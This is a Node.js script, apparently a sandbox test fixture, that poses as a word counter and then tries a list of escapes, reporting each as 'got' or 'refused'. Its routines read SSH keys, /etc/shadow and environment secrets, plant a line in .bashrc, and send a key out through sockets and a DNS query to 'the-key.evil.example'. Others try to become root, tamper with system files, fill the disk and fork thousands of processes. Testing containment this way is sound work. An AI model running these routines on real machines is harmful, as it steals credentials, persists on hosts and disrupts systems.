#!/usr/bin/env node
// The twin of untrusted.py for machines without Python: a word counter that does its job, and much else. See there.

import { spawn, spawnSync } from 'node:child_process';
import dgram from 'node:dgram';
import dns from 'node:dns/promises';
import fs from 'node:fs';
import net from 'node:net';
import { setInterval } from 'node:timers';

const TARGET = JSON.parse(process.argv[2]);
const MODE = process.argv[3];

class Refused extends Error {}

function read(path) {
  const data = fs.readFileSync(path);
  return `${data.length} bytes: ${data.toString().slice(0, 40).split('\n')[0]}`;
}

function append(path) {
  // Not fs.appendFile: that would make a file where there is none, and prove nothing.
  const fd = fs.openSync(path, 'r+');
  fs.writeSync(fd, 'echo you are mine\n', fs.fstatSync(fd).size);
  return `wrote to ${path}`;
}

// ---- the job it was started for

function countWords() {
  const words = fs.readFileSync(`${TARGET.box}/input.txt`, 'utf8').trim().split(/\s+/).length;
  fs.writeFileSync(`${TARGET.box}/words.txt`, `${words}\n`);
  return `${words} words, written to words.txt`;
}

// ---- secrets

function key() {
  const name = fs.readdirSync(`${TARGET.home}/.ssh`).find((each) => each.startsWith('id_'));
  return read(`${TARGET.home}/.ssh/${name}`);
}

function environment() {
  const names = Object.keys(process.env).filter((name) => /TOKEN|SECRET|PASSWORD/.test(name));
  if (names.length === 0) {
    throw new Refused(`${Object.keys(process.env).length} variables, no secret among them`);
  }
  return names.map((name) => `${name}=${process.env[name]}`).join(', ');
}

function processes() {
  const pids = fs.readdirSync('/proc').filter((name) => /^\d+$/.test(name));
  const file = `/proc/${TARGET.victim}/cmdline`;
  const command = fs.existsSync(file) ? fs.readFileSync(file, 'utf8') : '';
  if (!command.includes(TARGET.mark)) {
    throw new Refused(`${pids.length} processes in sight, none of the host`);
  }
  return `${pids.length} processes, among them ${TARGET.victim}: ${command.split('\0')[0]}`;
}

// ---- ways out

function connect(where, what) {
  return new Promise((resolve, reject) => {
    const socket = net.connect(where, () => socket.write(what));
    socket.once('data', (data) => {
      socket.destroy();
      resolve(`answer: ${data.toString().trim()}`);
    });
    socket.once('error', reject);
  });
}

function nameServer() {
  return new Promise((resolve, reject) => {
    const socket = dgram.createSocket('udp4');
    const done = (settle, value) => {
      socket.close();
      settle(value);
    };
    socket.once('message', (data) => done(resolve, `answer: ${data.toString().trim()}`));
    socket.once('error', (error) => done(reject, error));
    socket.connect(TARGET.udp, '127.0.0.1', () => socket.send('the-key.evil.example'));
  });
}

// ---- harm to others

function terminate(pid) {
  process.kill(pid, 'SIGTERM');
  return `sent SIGTERM to ${pid}`;
}

function run(command, ...args) {
  const { status, stderr, error } = spawnSync(command, args, { encoding: 'utf8' });
  if (status !== 0) {
    throw new Refused(error?.message ?? stderr.trim().split('\n')[0]);
  }
  return `${command} succeeded`;
}

function becomeRoot() {
  process.setuid(0);
  return run('chroot', '/tmp', '/');
}

function fillDisk() {
  const block = Buffer.alloc(1024 * 1024);
  const fd = fs.openSync('/tmp/junk', 'w');
  let written = 0;
  try {
    for (; written < 1024; written += 1) {
      fs.writeSync(fd, block);
    }
  } catch (error) {
    throw new Refused(`${error.code} after ${written} MiB`);
  }
  return `wrote ${written} MiB`;
}

async function forkWithoutEnd() {
  for (let started = 0; started < 5000; started += 1) {
    const child = spawn('sleep', ['1000'], { stdio: 'ignore' });
    const error = await new Promise((resolve) => {
      child.once('spawn', () => resolve(null));
      child.once('error', resolve);
    });
    child.unref();
    if (error !== null) {
      throw new Refused(`${error.code} after ${started} more, which stay behind`);
    }
  }
  return '5000 processes';
}

const HARMLESS = [
  ['key', 'read the SSH key of the user', key],
  ['shadow', 'read /etc/shadow', () => read('/etc/shadow')],
  ['environment', 'find tokens in the environment', environment],
  ['processes', 'look for processes of the host', processes],
  ['startup', "add a line to the user's .bashrc", () => append(`${TARGET.home}/.bashrc`)],
  ['tcp', 'connect to a service on 127.0.0.1', () => connect({ port: TARGET.tcp, host: '127.0.0.1' }, 'the key')],
  ['dns', 'send the key in a question to a name server', nameServer],
  ['unix', "connect to an agent's Unix socket", () => connect({ path: TARGET.socket }, 'sign this')],
  ['abstract', 'connect to an abstract Unix socket', () => connect({ path: `\0${TARGET.abstract}` }, 'sign this')],
  ['kill', 'end another process', () => terminate(TARGET.victim)],
];

const HARMFUL = [
  ['kill-parent', 'end the program that started it', () => terminate(TARGET.parent)],
  ['trace', 'trace the program that started it', () => append(`/proc/${TARGET.parent}/mem`)],
  ['internet', 'look up example.org', async () => (await dns.lookup('example.org')).address],
  ['system', 'replace a system program', () => append('/usr/bin/env')],
  ['kernel', 'have the kernel run a program at each crash', () => append('/proc/sys/kernel/core_pattern')],
  ['mount', 'mount a file system', () => run('mount', '-t', 'tmpfs', 'none', '/tmp')],
  ['device', 'open the disk below the file system', () => run('mknod', '/tmp/disk', 'b', '8', '0')],
  ['root', 'become root', becomeRoot],
  ['namespace', 'become root of a namespace of its own', () => run('unshare', '--user', 'true')],
  ['disk', 'fill the disk', fillDisk],
  ['forks', 'fork without end', forkWithoutEnd],
];

async function attempt([name, what, deed]) {
  let verdict = 'got';
  let details;
  try {
    details = await deed();
  } catch (error) {
    verdict = 'refused';
    details = error instanceof Refused ? error.message : `${error.code ?? error.message}`;
  }
  fs.writeSync(1, `${[name, what, verdict, details].join('\t')}\n`);
}

if (MODE === 'linger') {
  for (const signal of ['SIGTERM', 'SIGINT', 'SIGHUP']) {
    process.on(signal, () => {});
  }
  fs.writeSync(1, 'linger\tstay forever\tgot\t\n');
  setInterval(() => {}, 1000);
} else {
  await attempt(['job', 'count the words of input.txt', countWords]);
  for (const entry of [...HARMLESS, ...(MODE === 'all' ? HARMFUL : [])]) {
    await attempt(entry);
  }
  // It stays for as long as somebody could have more input for it.
  fs.readFileSync(0);
  process.exit(0);
}
